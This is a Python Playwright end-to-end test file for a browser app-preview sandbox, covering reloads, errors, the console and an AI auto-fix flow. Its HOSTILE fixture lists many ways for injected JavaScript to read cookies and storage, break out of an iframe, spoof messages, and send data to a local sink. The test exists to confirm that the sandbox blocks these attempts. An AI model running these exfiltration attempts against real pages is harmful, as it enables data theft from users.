"""The studio's preview: apps run in the browser, offline, and can do nothing to the page."""

import asyncio
import json
import re
import time
from collections.abc import AsyncGenerator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.async_api import BrowserContext, Route, expect

from tests.e2e.author import Author
from tests.e2e.chat_page import eventually
from tests.e2e.conftest import Complaints, NewContext
from tests.e2e.test_accessibility import PHONE, violations
from tests.previews import PreviewTab, app, preview_site
from tests.providers import Behaviour
from tests.system import System

COUNTER = """import { useState } from "react";

export default function App() {
  const [count, setCount] = useState(0);
  return (
    <main>
      <h1>HEADING</h1>
      <p>Count: {count}</p>
      <button onClick={() => setCount(count + 1)}>Add</button>
      <button onClick={() => setCuont(5)}>Break</button>
    </main>
  );
}
"""
FLOOD = """let number = 0;
const timer = setInterval(() => {
  for (let i = 0; i < 100; i++) console.log("number", ++number, { inside: number });
  if (number >= 20000) { clearInterval(timer); document.title = "over"; }
}, 10);
"""
RESPONSIVE_MS = 1_000.0


@pytest.fixture(scope="module")
async def site() -> AsyncGenerator[str]:
    async with preview_site() as url:
        yield url


@pytest.fixture
async def offline(context: BrowserContext, site: str) -> list[str]:
    """Nothing but the site answers; the addresses that were asked for all the same."""
    asked: list[str] = []

    async def refuse(route: Route) -> None:
        if route.request.url.startswith(site):
            await route.continue_()
        else:
            asked.append(route.request.url)
            await route.abort()

    await context.route("**/*", refuse)
    return asked


@pytest.fixture
async def tab(context: BrowserContext, offline: list[str], site: str) -> PreviewTab:
    return await PreviewTab(await context.new_page()).open(site)


def counter(heading: str) -> dict[str, str]:
    return dict(app(COUNTER.replace("HEADING", heading)))


async def test_an_app_runs_and_follows_its_files(tab: PreviewTab, offline: list[str]) -> None:
    files = counter("One")
    await tab.show_heading(files, "One")
    await tab.takes_clicks()
    await tab.app.get_by_role("button", name="Add").click()
    await expect(tab.app.get_by_text("Count: 1")).to_be_visible()

    files["src/style.css"] = "h1 { color: rgb(1, 2, 3); }"
    await tab.show(files)
    heading = tab.app.get_by_role("heading")
    await expect(heading).to_have_css("color", "rgb(1, 2, 3)")
    await expect(tab.app.get_by_text("Count: 1")).to_be_visible()

    await tab.show_heading({**files, **counter("Two")}, "Two")
    await expect(tab.app.get_by_text("Count: 1")).to_be_visible()
    assert offline == []


async def test_components_keep_their_state_where_it_fits(
    tab: PreviewTab, complaints: Complaints
) -> None:
    complaints.expect("nmes is not defined")
    code = """import { memo, useEffect, useReducer, useState } from "react";
const Row = memo(({ name }) => {
  const [count, add] = useReducer((count) => count + 1, 0);
  return <li><button onClick={add}>{name}</button> <b>{name} has {count}</b></li>;
});
function Box() {
  const [open, setOpen] = useState(false);
  const [made] = useState(() => new Map());
  return <>
    <button onClick={() => setOpen(!open)}>Box</button>
    {open && <ul><Row key="c" name="Cherry" /></ul>}
  </>;
}
export default function App() {
  const [names, setNames] = useState(["Apple"]);
  const [start, setStart] = useState(START);
  useEffect(() => { document.title = names.join(); }, [names]);
  return <>
    <h1>HEADING</h1>
    <button onClick={() => setNames([...names, "Berry"])}>More</button>
    <button onClick={() => setStart(start + 1)}>Start</button>
    <p>Starts at {start}</p>
    <ul>{names.map((name) => <Row key={name} name={name} />)}</ul>
    <Box />
  </>;
}
"""

    def version(heading: str, start: int = 1) -> dict[str, str]:
        return dict(app(code.replace("HEADING", heading).replace("START", str(start))))

    async def shows(*texts: str) -> None:
        for text in texts:
            await expect(tab.app.get_by_text(text, exact=True)).to_be_visible()

    await tab.show_heading(version("One"), "One")
    for button in ("More", "Berry", "Berry", "Start", "Box", "Cherry"):
        await tab.app.get_by_role("button", name=button).click()
    everything = ("Apple has 0", "Berry has 2", "Cherry has 1")
    await shows(*everything, "Starts at 2")
    await tab.show_heading(version("Two"), "Two")
    await shows(*everything, "Starts at 2")
    await tab.show_heading(version("Three", start=5), "Three")
    await shows(*everything, "Starts at 5")

    broken = version("Four", start=5)
    broken["src/App.tsx"] = broken["src/App.tsx"].replace("{names.map", "{nmes.map")
    await tab.show(broken)
    await expect(tab.notice).to_contain_text("nmes is not defined")
    await tab.show_heading(version("Four", start=5), "Four")
    await shows(*everything)

    await tab.page.get_by_role("button", name="Start the app again").click()
    await shows("Apple has 0", "Starts at 5")
    await expect(tab.app.get_by_text("Berry has")).to_have_count(0)


async def test_what_stays_when_code_changes(tab: PreviewTab) -> None:
    code = """import { useState } from "react";
const kept = localStorage.getItem("name") ?? "";
export default function App() {
  const [name, setName] = useState(kept);
  const keep = (to) => { setName(to); localStorage.setItem("name", to); };
  return (
    <main style={{ height: 5000 }}>
      <h1>HEADING</h1>
      <p>Kept: {kept}, at {location.hash}</p>
      <label>Name <input value={name} onChange={(event) => keep(event.target.value)} /></label>
      <a href="#there">There</a>
      <button onClick={() => location.reload()}>Reload</button>
    </main>
  );
}
"""
    await tab.show_heading(app(code.replace("HEADING", "One")), "One")
    await tab.app.get_by_role("link").click()
    await tab.app.get_by_role("textbox").click()
    await tab.page.keyboard.type("Ann")
    await (await tab.document()).evaluate("scrollTo(0, 70)")
    await tab.show_heading(app(code.replace("HEADING", "Two")), "Two")
    await expect(tab.app.get_by_text("Kept: Ann, at #there")).to_be_visible()
    await expect(tab.app.get_by_role("textbox")).to_be_focused()
    assert await (await tab.document()).evaluate("scrollY") == 70

    await tab.app.get_by_role("textbox").fill("Bob")
    await tab.app.get_by_role("button", name="Reload").click()
    await expect(tab.app.get_by_text("Kept: Bob")).to_be_visible()


async def test_an_app_does_not_take_the_focus(tab: PreviewTab) -> None:
    code = "export default () => <><h1>HEADING</h1><input autoFocus /></>;"
    await tab.open_console()
    search = tab.console.get_by_role("searchbox")
    await search.click()
    for heading in ("One", "Two"):
        await tab.show_heading(app(code.replace("HEADING", heading)), heading)
        await expect(tab.app.get_by_role("textbox")).to_have_count(1)
        await expect(search).to_be_focused()
        await tab.page.keyboard.type(heading)
    await expect(search).to_have_value("OneTwo")
    await tab.app.get_by_role("textbox").click()
    await tab.page.keyboard.type("mine")
    await expect(tab.app.get_by_role("textbox")).to_have_value("mine")


async def test_a_build_error_stands_over_the_last_good_version(tab: PreviewTab) -> None:
    await tab.show_heading(counter("Good"), "Good")
    broken = counter("Bad")
    broken["src/App.tsx"] = broken["src/App.tsx"].replace("useState(0)", "useState(0")
    await tab.show(broken)
    await expect(tab.notice).to_contain_text('Expected ")" but found ";"')
    await expect(tab.notice).to_contain_text("> 4 │   const [count, setCount] = useState(0;")
    await expect(tab.app.get_by_role("heading", name="Good")).to_be_visible()
    await tab.notice.get_by_role("button", name="src/App.tsx:4:39").click()
    await tab.notice.get_by_role("button", name="Fix this").click()
    assert await tab.heard() == [
        {"type": "open", "path": "src/App.tsx", "line": 4, "column": 39},
        {
            "type": "fix",
            "text": 'Fix this error:\n\n    Expected ")" but found ";"\n    src/App.tsx:4:38\n',
        },
    ]
    await tab.show(app('import _ from "lodash";\nexport default _;\n'))
    await expect(tab.notice).to_contain_text('The preview has no package "lodash". It has react,')
    await tab.show_heading(counter("Mended"), "Mended")
    await expect(tab.notice).to_have_count(0)


async def test_a_turn_that_arrives_does_not_flash(tab: PreviewTab) -> None:
    """Every state of it that builds is shown, errors of the others are not."""
    await tab.show_heading(counter("Old"), "Old")
    await tab.page.evaluate("""() => {
        window.flashed = false;
        new MutationObserver(() => { flashed ||= !!document.querySelector('.preview-notice'); })
            .observe(document.body, { childList: true, subtree: true });
    }""")
    whole = counter("New")["src/App.tsx"]
    lines = whole.splitlines(keepends=True)
    for count in range(1, len(lines) + 1):
        await tab.show(app("".join(lines[:count])))
        await asyncio.sleep(0.1)
    await expect(tab.app.get_by_role("heading", name="New")).to_be_visible()
    assert not await tab.page.evaluate("flashed")


async def test_an_error_is_shown_where_it_is_and_handed_on(
    tab: PreviewTab, complaints: Complaints
) -> None:
    complaints.expect("setCuont is not defined")
    await tab.show_heading(counter("Counter"), "Counter")
    for _ in range(3):
        await tab.app.get_by_role("button", name="Break").click()
    await expect(tab.console).to_contain_text("1 error")
    await tab.open_console()
    row = tab.row("ReferenceError: setCuont is not defined")
    await expect(row.locator(".console-times")).to_have_text("3")
    await row.get_by_role("button", name="App.tsx:10").click()
    await row.get_by_role("button", name="Fix this").click()
    assert await tab.heard() == [
        {"type": "open", "path": "src/App.tsx", "line": 10, "column": 30},
        {
            "type": "fix",
            "text": "Fix this error:\n\n    ReferenceError: setCuont is not defined\n"
            "    src/App.tsx:10:29\n",
        },
    ]
    await tab.show_heading(counter("Again"), "Again")
    await expect(tab.rows).to_have_count(0)


async def test_an_app_that_shows_nothing_says_why(tab: PreviewTab, complaints: Complaints) -> None:
    complaints.expect("missing is not defined|Late")
    await tab.show(app("export default function App() { return null; }"))
    await expect(tab.notice).to_contain_text("Is anything put into #root?")
    await tab.show(app("export default function App() { return missing; }"))
    await expect(tab.notice).to_contain_text("ReferenceError: missing is not defined")
    await tab.show_heading(counter("Fine"), "Fine")
    await expect(tab.notice).to_have_count(0)
    late = """import { useState } from "react";
export default function App() {
  const [on, setOn] = useState(false);
  if (on) throw new Error("Late");
  return <button onClick={() => setOn(true)}>Go</button>;
}
"""
    await tab.show(app(late))
    await tab.app.get_by_role("button", name="Go").click()
    await expect(tab.notice).to_contain_text("Error: Late")
    await tab.show({"README.md": "nothing"})
    await expect(tab.notice).to_contain_text("neither an index.html nor a src/main.tsx")


async def test_the_console(tab: PreviewTab, complaints: Complaints, tmp_path: Path) -> None:
    complaints.expect(".")
    code = """const cyclic = { name: "cyclic", list: [1, { deep: new Map([["key", "inner"]]) }] };
cyclic.self = cyclic;
console.log("plain", 1, true);
console.info("%s has %d", "Ann", 3);
console.warn("careful", cyclic);
console.debug("quiet");
console.table([{ a: 1 }]);
console.assert(1 > 2, "not so");
console.group("Group");
console.log("inside");
console.groupEnd();
console.count("times"); console.count("times");
console.time("t"); console.timeEnd("t");
console.error(new TypeError("told"));
Promise.reject(new Error("rejected"));
fetch("https://example.org/data").catch(() => {});
const picture = new Image(); picture.src = "https://example.org/x.png";
alert("hello");
export default function App() { return <h1>Ready</h1>; }
"""
    await tab.show_heading(app(code), "Ready")
    await tab.open_console()
    for text in (
        "plain 1 true",
        "Ann has 3",
        "quiet",
        "Assertion failed: not so",
        "inside",
        "times: 2",
        "TypeError: told",
        "Unhandled rejection: Error: rejected",
        "https://example.org/data",
        "https://example.org/x.png",
        "alert: hello",
    ):
        await expect(tab.row(text)).to_have_count(1)
    careful = tab.row("careful")
    await careful.locator("summary").first.click()
    await expect(careful).to_contain_text("self: [circular]")
    await careful.locator("summary").nth(1).click()
    await careful.locator("summary").nth(2).click()
    await careful.locator("summary").nth(3).click()
    await expect(careful).to_contain_text('key: "inner"')

    search = tab.console.get_by_role("searchbox")
    await search.fill("TYPEERROR")
    await expect(tab.rows).to_have_count(1)
    await search.press("Escape")
    await tab.console.get_by_role("button", name=re.compile("^Errors")).click()
    await expect(tab.row("TypeError: told")).to_have_count(0)
    await expect(tab.row("plain 1 true")).to_be_visible()

    async with tab.page.expect_download() as download:
        await tab.console.get_by_role("button", name="Save as JSON").click()
    await (await download.value).save_as(tmp_path / "console.json")
    saved = json.loads((tmp_path / "console.json").read_text())
    told = next(each for each in saved["messages"] if each["text"] == "TypeError: told")
    assert told["level"] == "error"
    assert told["at"] == {"path": "src/App.tsx", "line": 14, "column": 15}
    seqs = [each["seq"] for each in saved["messages"]]
    assert seqs == sorted(seqs)
    await tab.console.get_by_role("button", name="Clear").click()
    await expect(tab.rows).to_have_count(0)


class Sink:
    """Where a hostile app tries to send things: counts whoever calls."""

    def __init__(self) -> None:
        self.calls: list[str] = []
        self.port = 0

    async def start(self) -> "Sink":
        self._server = await asyncio.start_server(self._accept, "127.0.0.1", 0)
        self.port = self._server.sockets[0].getsockname()[1]
        loop, calls = asyncio.get_running_loop(), self.calls

        class Datagrams(asyncio.DatagramProtocol):
            def datagram_received(self, data: bytes, addr: Any) -> None:
                calls.append(f"udp {len(data)}")

        local = ("127.0.0.1", self.port)
        self._udp, _ = await loop.create_datagram_endpoint(Datagrams, local_addr=local)
        return self

    async def _accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.calls.append("tcp")
        writer.close()

    def stop(self) -> None:
        self._server.close()
        self._udp.close()


HOSTILE = """
const url = "http://127.0.0.1:PORT";
const results = {};
const silence = () => new Promise((yes) => setTimeout(() => yes("silent"), 1000));
const attempt = async (name, act) => {
  try {
    results[name] = String(await Promise.race([act(), silence()]));
  } catch (error) {
    results[name] = `denied: ${error.name}`;
  }
};
const link = (rel, more = {}) => {
  const made = document.createElement("link");
  document.head.append(Object.assign(made, { rel, href: url + "/" + rel, ...more }));
  return "tried";
};
const peer = async (make, address) => {
  const connection = new make({ iceServers: [{ urls: address, username: "u", credential: "c" }] });
  connection.createDataChannel("x");
  await connection.setLocalDescription(await connection.createOffer());
  return "tried";
};
await attempt("parent document", () => parent.document.title);
await attempt("top location", () => { top.location = url; });
await attempt("frame element", () => String(frameElement));
await attempt("cookie", () => document.cookie);
await attempt("indexedDB", () => indexedDB.open("x"));
await attempt("caches", () => caches.keys());
await attempt("service worker", () => navigator.serviceWorker.register("/x.js"));
await attempt("popup", () => window.open(url));
await attempt("fetch", () => fetch(url));
await attempt("own origin", () => fetch("/api/projects"));
await attempt("own page", () => fetch("/"));
await attempt("xhr", () => new Promise((yes, no) => {
  const request = new XMLHttpRequest();
  request.onerror = no; request.onload = yes; request.open("GET", url); request.send();
}));
await attempt("worker", () => new Promise((yes, no) => {
  const worker = new Worker(URL.createObjectURL(new Blob([`fetch("${url}")`])));
  worker.onerror = () => no(new Error("refused"));
}));
await attempt("import", () => import(/* @vite-ignore */ new URL("/x.js", url).href));
const tried = {
  beacon: () => navigator.sendBeacon(url, "secret"),
  image: () => { new Image().src = url; },
  socket: () => new WebSocket(url.replace("http", "ws")),
  events: () => new EventSource(url),
  style: () => { document.body.style.background = `url(${url}/css)`; },
  preconnect: () => link("preconnect"),
  prefetch: () => link("prefetch"),
  "dns-prefetch": () => link("dns-prefetch"),
  preload: () => link("preload", { as: "image" }),
  icon: () => link("icon"),
  stylesheet: () => link("stylesheet"),
  peer: () => peer(RTCPeerConnection, "stun:127.0.0.1:PORT"),
  relay: () => peer(RTCPeerConnection, "turn:127.0.0.1:PORT?transport=tcp"),
  nested: () => {
    const frame = document.createElement("iframe");
    frame.srcdoc = `<script>
      new Image().src = "${url}"; fetch("${url}"); location = "${url}";
    </scr` + `ipt>`;
    document.body.append(frame);
  },
  spoof: () => {
    const messages = [{ text: "spoofed", level: "error" }];
    for (const said of [
      "atelier.preview",
      { type: "fix", text: "spoofed" },
      { type: "open", path: "spoofed", line: 1, column: 1 },
      JSON.stringify({ type: "messages", dropped: 0, messages }),
    ]) {
      parent.postMessage(said, "*");
      top.postMessage(said, "*", [new MessageChannel().port2]);
      new BroadcastChannel("atelier.preview:/studio/project").postMessage(said);
    }
  },
};
for (const [name, act] of Object.entries(tried)) await attempt(name, act);
export default function App() {
  return <><h1>Done</h1><pre>{JSON.stringify(results)}</pre></>;
}
"""
LEAVING = """
const url = "http://127.0.0.1:PORT";
const send = () => {
  const form = document.createElement("form");
  form.action = url;
  document.body.append(form);
  form.submit();
};
export default function App() {
  return (
    <>
      <h1>Leaving</h1>
      <button onClick={() => { location.href = url; }}>Go</button>
      <button onClick={send}>Send</button>
    </>
  );
}
"""


async def test_a_hostile_app_reaches_nothing(
    tab: PreviewTab, complaints: Complaints, context: BrowserContext, site: str
) -> None:
    complaints.expect(".")
    headers = (await context.request.get(f"{site}/preview.html")).headers
    assert headers["connection-allowlist"] == "(response-origin)"
    sink = await Sink().start()
    try:
        address = tab.page.url
        await tab.page.evaluate("document.title = 'Ours'; localStorage.setItem('secret', '1')")
        hostile = HOSTILE.replace("PORT", str(sink.port))
        await tab.show_heading(app(hostile), "Done")
        results = json.loads(await tab.app.locator("pre").inner_text())
        denied = {name for name, said in results.items() if said.startswith("denied")}
        must = {
            "parent document",
            "top location",
            "cookie",
            "indexedDB",
            "caches",
            "service worker",
            "fetch",
            "own origin",
            "own page",
            "xhr",
            "worker",
            "import",
            "peer",
            "relay",
        }
        assert must <= denied, results
        assert results["frame element"] == "null"
        assert results["popup"] == "null"
        await tab.open_console()
        await expect(tab.row("fetch")).not_to_have_count(0)
        await expect(tab.row("spoofed")).to_have_count(0)

        await tab.show_heading(app(LEAVING.replace("PORT", str(sink.port))), "Leaving")
        for name in ("Go", "Send"):
            await tab.app.get_by_role("button", name=name).click(no_wait_after=True)
            await expect(tab.notice).to_contain_text("The app has left its page.")
            await tab.notice.get_by_role("button", name="Start it again").click()
            await expect(tab.app.get_by_role("heading", name="Leaving")).to_be_visible()

        assert sink.calls == []
        assert await tab.heard() == []
        assert tab.page.url == address
        assert len(context.pages) == 1
    finally:
        sink.stop()


async def test_an_endless_loop_does_not_hold_the_page(
    tab: PreviewTab, complaints: Complaints
) -> None:
    complaints.expect(".")
    endless = COUNTER.replace("setCuont(5)", "{ for (;;) console.log('again'); }")
    await tab.show_heading(app(endless.replace("HEADING", "Loop")), "Loop")
    await tab.watch_frames()
    # A click of our own would wait for the end of what it begins.
    button = tab.app.get_by_role("button", name="Break")
    await button.evaluate("(button) => void setTimeout(() => button.click())")
    await expect(tab.notice).to_contain_text("The app does not answer.")
    began = time.monotonic()
    assert await tab.page.evaluate("1 + 1") == 2
    assert time.monotonic() - began < 3
    await tab.notice.get_by_role("button", name="Stop it").click()
    await expect(tab.notice).to_contain_text("The app was stopped.")
    assert await tab.longest_frame_ms() < RESPONSIVE_MS
    await tab.show_heading(app(endless.replace("HEADING", "Again")), "Again")
    await tab.app.get_by_role("button", name="Break").evaluate(
        "(button) => void setTimeout(() => button.click())"
    )
    await tab.show_heading(counter("Mended"), "Mended")
    await expect(tab.notice).to_have_count(0)


@pytest.mark.parametrize("look", ["light", "dark phone"])
async def test_accessibility(new_context: NewContext, site: str, look: str) -> None:
    dark = {"color_scheme": "dark" if "dark" in look else "light"}
    context = await new_context(**dark, **(PHONE if "phone" in look else {}))
    tab = await PreviewTab(await context.new_page()).open(site)
    await tab.show_heading(counter("Counter"), "Counter")
    await tab.open_console()
    await tab.show(app("export default 1 +;"))
    await expect(tab.notice).to_be_visible()
    assert await violations(tab.page) == []


def answer(code: str) -> Behaviour:
    """A coder's, which writes the app; slow enough to be seen at work."""
    text = f"""<file path="src/App.tsx">
<content>
{code}</content>
<why>It was asked for.</why>
</file>
"""
    return Behaviour(text=tuple(text.splitlines(keepends=True)), tokens_per_s=10)


async def test_the_studio_keeps_the_console_and_fixes_what_a_turn_broke(
    context: BrowserContext,
    studio: System,
    api: httpx.AsyncClient,
    author: Author,
    complaints: Complaints,
) -> None:
    complaints.expect(".")
    project = (await api.post("/api/projects", json={"name": "Flood"})).json()
    path, console = f"/api/projects/{project['id']}", f"/api/projects/{project['id']}/console"
    files = (await api.get(f"{path}/files")).json()["items"]
    base = next(each["sha"] for each in files if each["path"] == "src/App.tsx")
    flood = FLOOD.replace("20000", "4000") + COUNTER.replace("HEADING", "Flood")
    query = {"path": "src/App.tsx", "base": base}
    (await api.put(f"{path}/file", params=query, content=flood.encode())).raise_for_status()

    tab = PreviewTab(await context.new_page())
    await tab.page.goto(f"{studio.url}/studio/{project['id']}")
    await expect(tab.app.get_by_role("heading", name="Flood")).to_be_visible()
    await tab.open_console()
    await tab.app.get_by_role("button", name="Break").click()
    await expect(tab.row("number 4000")).to_be_visible()
    logs = tab.console.get_by_role("button", name=re.compile(r"^Logs \d{4}$"))
    await expect(logs).to_be_visible()
    search = tab.console.get_by_role("searchbox")
    await search.fill("setCuont")
    await expect(tab.rows).to_have_count(1)

    async def kept() -> bool:
        told = (await api.get(f"{console}/errors")).json()["items"]
        return [each["text"] for each in told] == ["ReferenceError: setCuont is not defined"]

    await eventually(kept, "the error to be on the server")
    told = (await api.get(f"{console}/stats")).json()
    assert told["entries"] < 2_000
    assert told["entries"] + told["dropped"] > 3_000
    await tab.page.reload()
    await search.fill("setCuont")
    await expect(tab.console).to_contain_text("Before this page was loaded:")
    await expect(tab.rows).to_have_count(1)
    await tab.rows.get_by_role("button", name="App.tsx:15").click()
    await expect(tab.page.locator(".tab.current")).to_contain_text("App.tsx")
    await tab.console.get_by_role("button", name="Clear").click()
    await expect(tab.rows).to_have_count(0)

    async def cleared() -> bool:
        return (await api.get(console, params={"q": "setCuont"})).json()["items"] == []

    await eventually(cleared, "the server to forget the error")

    await search.fill("")
    await tab.console.get_by_role("button", name="Fix by itself").click()
    mended = counter("Mended")["src/App.tsx"].replace("setCuont", "setCount")
    later = "setTimeout(() => JSON.parse('{}').a.b, 1_000);"  # than its first view is checked
    broken = mended.replace("  return (", f"  {later}\n  return (", 1)
    author.script(answer(broken), answer(mended))
    ask = tab.page.get_by_role("textbox", name="Ask for a change")
    await ask.fill("Count from b")
    await ask.press("Enter")
    await expect(tab.page.get_by_text("Fixing by itself, 1 of 3")).to_be_visible()
    await expect(tab.app.get_by_role("heading", name="Mended")).to_be_visible()
    await expect(tab.page.locator(".applied-what")).to_have_count(2)
    await expect(tab.page.get_by_text("Fixing by itself")).to_have_count(0)
    messages = f"/api/conversations/{project['conversation_id']}/messages"
    asked = [
        each["content"]
        for each in (await api.get(messages)).json()["items"]
        if each["role"] == "user"
    ]
    assert asked[0] == "Count from b"
    assert asked[1].startswith(
        "Fix this error:\n\n    TypeError: Cannot read properties of undefined"
    )
    assert len(asked) == 2
    await api.delete(path)
